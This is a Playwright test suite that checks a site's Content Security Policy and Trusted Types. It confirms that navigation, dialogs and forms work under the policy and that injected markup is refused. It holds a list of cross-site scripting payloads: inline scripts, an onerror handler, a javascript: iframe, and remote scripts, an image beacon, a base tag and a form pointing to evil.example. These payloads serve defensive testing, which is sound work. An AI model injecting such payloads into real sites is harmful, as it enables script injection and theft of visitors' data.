import { expect, type Page, test } from '@playwright/test';
import { EnquiryFormPage, enquiryForms } from './enquiry-form';
import { ready } from './ready';
import { fixedRoutes, itemDialogs, itemRoutes, phoneSize, postRoutes } from './site';

/** One page of each kind: the fixed ones, a service, a post, and an item of each list. */
const kinds = [
  ...fixedRoutes.slice(0, 12),
  ...postRoutes.slice(0, 1),
  ...new Map(itemRoutes.map((route) => [route.split('/')[1], route])).values(),
];

/** Notes whatever the policy refuses, the console complains of, and requests to other hosts. */
async function watch(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => found.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      const note = `${effectiveDirective} refused ${blockedURI} ${sample}`;
      (window as unknown as { noteViolation(text: string): void }).noteViolation(note);
    });
  });
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) found.push(message.text());
  });
  page.on('pageerror', (error) => found.push(String(error)));
  page.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && hostname !== 'localhost') found.push(request.url());
  });
  return found;
}

/** Goes to a page as a link of the site does, without a new document. */
async function goSoftly(page: Page, route: string) {
  await page.evaluate((href) => {
    const { next } = window as unknown as { next: { router: { push(href: string): void } } };
    next.router.push(href);
  }, route);
  await expect(page).toHaveURL(route);
  await expect(page.locator('h1')).toHaveCount(1);
}

for (const [index, from] of kinds.entries()) {
  test(`the policy lets people go softly from ${from} to every other kind of page`, async ({
    page,
  }) => {
    const found = await watch(page);
    await page.goto(from);
    await ready(page);
    await page.evaluate(() => Object.assign(window, { sameDocument: true }));
    // There and back again: each pair of kinds in both directions.
    for (const to of kinds.slice(index + 1)) {
      await goSoftly(page, to);
      await goSoftly(page, from);
    }
    expect(await page.evaluate(() => Reflect.get(window, 'sameDocument'))).toBe(true);
    expect(found).toEqual([]);
  });
}

test('the policy lets every kind of dialog open', async ({ page }) => {
  const found = await watch(page);
  for (const [route, item] of itemDialogs) {
    await page.goto(route);
    await ready(page);
    await page.locator(`#${item?.slug} a[data-dialog]`).click();
    await expect(page.locator(`#details-${item?.slug}`)).toBeVisible();
  }
  expect(found).toEqual([]);
});

test('the policy lets menus, carousels, counters and the price filter work', async ({ page }) => {
  const found = await watch(page);
  await page.goto('/');
  await ready(page);
  await page.getByRole('banner').getByText('Activities').click();
  await page.keyboard.press('Escape');
  for (const carousel of await page.locator('[aria-roledescription="carousel"]').all()) {
    await carousel.scrollIntoViewIfNeeded();
    await expect(carousel).toHaveAttribute('data-state', /./);
    // The first button is the one that stops it.
    await carousel.getByRole('button').first().click();
    await expect(carousel).toHaveAttribute('data-state', 'paused');
  }
  await page.locator('dl').first().scrollIntoViewIfNeeded();

  await page.goto('/packages');
  await ready(page);
  await page.getByRole('radio', { name: '25000-50000' }).check();
  await expect(page).toHaveURL('/packages?price=25000-50000');

  await page.setViewportSize(phoneSize);
  await page.getByRole('button', { name: 'Open the menu' }).click();
  await expect(page.locator('dialog.dialog-side')).toBeVisible();
  expect(found).toEqual([]);
});

for (const { name } of enquiryForms) {
  test(`the policy lets the ${name} form refuse, fail, offer other ways and send`, async ({
    page,
  }) => {
    const found = await watch(page);
    const form = await new EnquiryFormPage(page, name).open();
    await form.button.click();
    await expect(form.alert).toHaveText(form.texts.missing);
    await form.fill();
    await form.answerOk();
    await form.button.click();
    await form.expectSent();
    expect(found).toEqual([]);
  });
}

/** What an attacker would get into a page, and what must come of it. */
const injections = [
  ['an inline script', '<script>window.intruded = true</script>', 'script-src-elem'],
  [
    'an inline handler',
    '<img src="/nowhere.svg" onerror="window.intruded = true">',
    'script-src-attr',
  ],
  [
    'a script of another host',
    '<script src="https://evil.example/x.js"></script>',
    'script-src-elem',
  ],
  [
    'a script in an address',
    '<iframe src="javascript:top.intruded = true"></iframe>',
    'script-src-elem',
  ],
  ['an inline style', '<style>body { color: red }</style>', 'style-src-elem'],
  ['a style attribute', '<p style="color: red">x</p>', 'style-src-attr'],
  ['a picture that tells', '<img src="https://evil.example/x.gif?told">', 'img-src'],
  ['another base', '<base href="https://evil.example/">', 'base-uri'],
  ['an object', '<object data="https://evil.example/x"></object>', 'object-src'],
] as const;

for (const [what, markup, directive] of injections) {
  test(`the policy refuses ${what}`, async ({ page }) => {
    const found = await watch(page);
    await page.route('**/contact', async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace('<main', `${markup}<main`);
      await route.fulfill({ response, body: html });
    });
    await page.goto('/contact');
    await ready(page);
    await expect.poll(() => found.join('\n')).toContain(`${directive} refused`);
    expect(await page.evaluate(() => Reflect.get(window, 'intruded'))).toBeUndefined();
    const style = await page.locator('body').evaluate((body) => getComputedStyle(body).color);
    expect(style).not.toBe('rgb(255, 0, 0)');
  });
}

test('a form that would send to another host is refused', async ({ page }) => {
  const found = await watch(page);
  await page.goto('/contact');
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => found.join('\n')).toContain('form-action refused');
});

test('Trusted Types let own scripts in, and neither markup nor other addresses', async ({
  page,
}) => {
  await page.goto('/contact');
  await ready(page);
  const outcomes = await page.evaluate(() => {
    const attempt = (act: () => void) => {
      try {
        act();
        return 'let in';
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    };
    const script = () => document.createElement('script');
    const own = document.querySelector('script[src]')?.getAttribute('src') ?? '';
    return {
      own: attempt(() => Object.assign(script(), { src: own })),
      markup: attempt(() => Object.assign(document.createElement('p'), { innerHTML: '<b>x</b>' })),
      text: attempt(() => Object.assign(script(), { text: 'window.intruded = true' })),
      elsewhere: attempt(() => Object.assign(script(), { src: 'https://evil.example/x.js' })),
      data: attempt(() => Object.assign(script(), { src: 'data:text/javascript,alert()' })),
      // Own host, but no script of the build: what visitors could have put there.
      upload: attempt(() => Object.assign(script(), { src: '/images/x.js' })),
    };
  });
  expect(outcomes).toEqual({
    own: 'let in',
    markup: 'refused',
    text: 'refused',
    elsewhere: 'refused',
    data: 'refused',
    upload: 'refused',
  });
});
